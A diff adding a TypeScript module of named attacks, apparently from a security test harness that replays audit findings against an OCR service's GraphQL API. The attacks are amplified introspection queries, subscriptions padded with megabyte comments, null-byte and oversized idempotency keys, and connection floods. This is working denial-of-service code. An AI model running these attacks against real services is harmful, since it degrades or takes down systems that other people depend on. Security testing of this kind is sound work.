@@ -1,0 +1,127 @@
+import { request } from 'undici';
+import { WebSocket } from 'ws';
+import type { Attack, Attacker, Target } from '../attack.ts';
+import { aborted, persist } from '../persist.ts';
+
+/** `width` aliases of the schema's lists at each of three levels: as many copies of the schema as its cube. */
+function wideIntrospection(width: number): string {
+  const many = (field: (alias: string) => string) => Array.from({ length: width }, (_, n) => field(`a${n}`)).join(' ');
+  return `{ __schema { ${many((alias) => `${alias}: types { ...T }`)} } }
+    fragment T on __Type { ${many((alias) => `${alias}: fields { ...F }`)} }
+    fragment F on __Field { name description }`;
+}
+
+export const introspectionOverHttp: Attack = {
+  name: 'wide introspection over HTTP',
+  finding: 'S1',
+  run: ({ url, penniless }, signal) =>
+    persist(signal, { pauseMs: 200 }, () => post(url, penniless, { query: wideIntrospection(8) }, signal)),
+};
+
+export const introspectionOverSockets: Attack = {
+  name: 'wide introspection over a socket',
+  finding: 'S1',
+  run: ({ url, penniless }, signal) =>
+    persist(signal, { pauseMs: 200 }, async () => {
+      const socket = await openSocket(url, penniless.apiKey, signal);
+      socket.send(JSON.stringify({ type: 'subscribe', id: '1', payload: { query: wideIntrospection(22) } }));
+      await ended(socket, signal, 5000);
+    }),
+};
+
+/** Comments are no tokens: a subscription's text may be long although it says nothing. */
+export const longSubscriptions: Attack = {
+  name: 'subscriptions with a megabyte of comment',
+  finding: 'S10',
+  run: ({ url, penniless }, signal) =>
+    persist(signal, { width: 2, pauseMs: 500 }, async () => {
+      const socket = await openSocket(url, penniless.apiKey, signal);
+      for (let n = 0; n < 100 && socket.readyState === WebSocket.OPEN; n++) {
+        const query = `subscription { requestsChanged { status } } # ${n} ${'x'.repeat(900_000)}`;
+        socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
+      }
+      await ended(socket, signal, 20_000);
+    }),
+};
+
+export const unstorableKeys: Attack = {
+  name: 'idempotency keys that PostgreSQL cannot store, by GraphQL',
+  finding: 'S5, B1',
+  run: ({ url, funded }, signal) => {
+    const keys = ['\u0000', 'k\u0000', '\ud800', 'k'.repeat(6000)];
+    let n = 0;
+    return persist(signal, { pauseMs: 40 }, () => {
+      n += 1;
+      const idempotencyKey = `${keys[n % keys.length]}${n}`;
+      return post(url, funded, { query: SUBMIT, variables: { idempotencyKey, request: requestOf() } }, signal);
+    });
+  },
+};
+
+export const anonymousReads: Attack = {
+  name: 'sixty connections that read public series without a key',
+  finding: 'S17',
+  run: ({ url }, signal) =>
+    persist(signal, { width: 60, pauseMs: 0 }, async () => {
+      const { body } = await request(`${url}/v1/engines/tesseract/latency?hours=720`, { signal });
+      await body.dump();
+    }),
+};
+
+export const packedFiles: Attack = {
+  name: 'forty readers of the explorer',
+  finding: 'S17',
+  run: ({ url, penniless }, signal) =>
+    persist(signal, { width: 40, pauseMs: 0 }, async () => {
+      const { body } = await request(`${url}/graphiql`, {
+        headers: { authorization: `Bearer ${penniless.apiKey}` },
+        signal,
+      });
+      await body.dump();
+    }),
+};
+
+const SUBMIT = `mutation ($request: OcrRequestInput!, $idempotencyKey: String!) {
+  submitOcr(request: $request, idempotencyKey: $idempotencyKey) { id }
+}`;
+
+/** A picture of one pixel: small, and readable. */
+const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+
+function requestOf() {
+  return { engine: 'instant', input: { type: 'base64', dataBase64: PIXEL } };
+}
+
+async function post(url: string, { apiKey }: Attacker, body: object, signal: AbortSignal): Promise<void> {
+  const answer = await request(`${url}/graphql`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
+    body: JSON.stringify(body),
+    signal,
+  });
+  await answer.body.dump({ limit: 64 * 1024 * 1024 });
+}
+
+async function openSocket(url: Target['url'], apiKey: string, signal: AbortSignal): Promise<WebSocket> {
+  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
+  signal.addEventListener('abort', () => socket.terminate(), { once: true });
+  socket.on('error', () => undefined); // 'close' follows
+  await new Promise<void>((resolve, reject) => {
+    socket.once('open', () => resolve());
+    socket.once('close', reject);
+  });
+  const acknowledged = new Promise<void>((resolve, reject) => {
+    socket.once('message', () => resolve());
+    socket.once('close', reject);
+  });
+  socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${apiKey}` } }));
+  await acknowledged;
+  return socket;
+}
+
+/** Until the service has closed the socket, the time is over, or the attack. */
+async function ended(socket: WebSocket, signal: AbortSignal, ms: number): Promise<void> {
+  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+  await Promise.race([closed, aborted(AbortSignal.any([signal, AbortSignal.timeout(ms)]))]);
+  socket.terminate();
+}
